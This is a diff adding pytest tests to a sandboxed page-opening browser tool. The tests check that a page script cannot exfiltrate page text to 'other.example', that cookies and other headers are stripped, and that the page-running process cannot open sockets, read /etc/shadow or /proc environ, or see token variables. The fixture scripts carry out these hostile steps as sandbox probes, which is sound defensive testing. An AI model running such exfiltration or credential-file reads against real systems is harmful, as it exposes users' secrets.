@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import shutil
 from importlib.util import find_spec
 from pathlib import Path
@@ -119,6 +120,20 @@ def test_a_page_that_moves_to_another_site_is_told_and_not_followed(web: Web) ->
 @needs_browser
 @needs_seccomp
 @needs_landlock
+def test_a_script_that_moves_to_another_site_does_not_get_there(web: Web) -> None:
+    move = "<p>here</p><script>location.href = 'https://other.example/?' + document.body.innerText</script>"
+    web.pages |= {"https://example.com/": page(move), "https://other.example/": page("stolen")}
+    try:
+        found = open_url(web, "https://example.com/")
+    except ToolError:  # the page went before it could be read
+        found = {}
+    assert "stolen" not in str(found)
+    assert {request.header("Host") for request in web.asked} == {"example.com"}
+
+
+@needs_browser
+@needs_seccomp
+@needs_landlock
 def test_a_page_that_never_ends_is_ended_with_its_browser(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(_browser, "PAGE_SECONDS", 4.0)
     web.pages["https://example.com/"] = page("<script>for (;;) {}</script>")
@@ -161,6 +176,46 @@ def test_a_secret_in_an_address_of_the_page_is_not_sent(web: Web) -> None:
     traffic.within(Lifetime(60.0))
     assert traffic.answer({"request": f"https://example.com/?t={token}", "method": "GET", "top": True}) == {}
     assert not web.asked
+    web.pages["https://example.com/"] = page("hi", Set_Cookie="session=1", Alt_Svc='h3=":443"')
+    answer = traffic.answer({"request": "https://example.com/", "method": "GET", "top": True})
+    assert {name.lower() for name, _ in answer["headers"]} == {"content-type"}
+
+
+CONFINED = """
+import json, os, pathlib, socket, sys
+found = []
+for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
+    try:
+        socket.socket(family)
+        found.append("socket")
+    except OSError:
+        pass
+for path in PATHS:
+    try:
+        open(path).read()
+        found.append(path)
+    except OSError:
+        pass
+found += [name for name in os.environ if "TOKEN" in name]
+print(json.dumps({"failed": "found " + json.dumps(found)}))
+"""
+
+
+@needs_browser
+@needs_seccomp
+@needs_landlock
+def test_what_runs_the_page_has_no_socket_no_file_of_the_users_and_no_environment(
+    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    kept = tmp_path / "kept"
+    kept.write_text("of the user")
+    (tmp_path / "page").mkdir()
+    script = tmp_path / "page/_page.py"
+    script.write_text(CONFINED.replace("PATHS", repr([str(kept), f"/proc/{os.getpid()}/environ", "/etc/shadow"])))
+    monkeypatch.setattr(_browser, "_PAGE", script)
+    monkeypatch.setenv("MY_TOKEN", "t")
+    with pytest.raises(ToolError, match=r"found \[\]"):
+        open_url(web, "https://example.com/")
 
 
 def test_without_playwright_or_a_browser_the_step_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
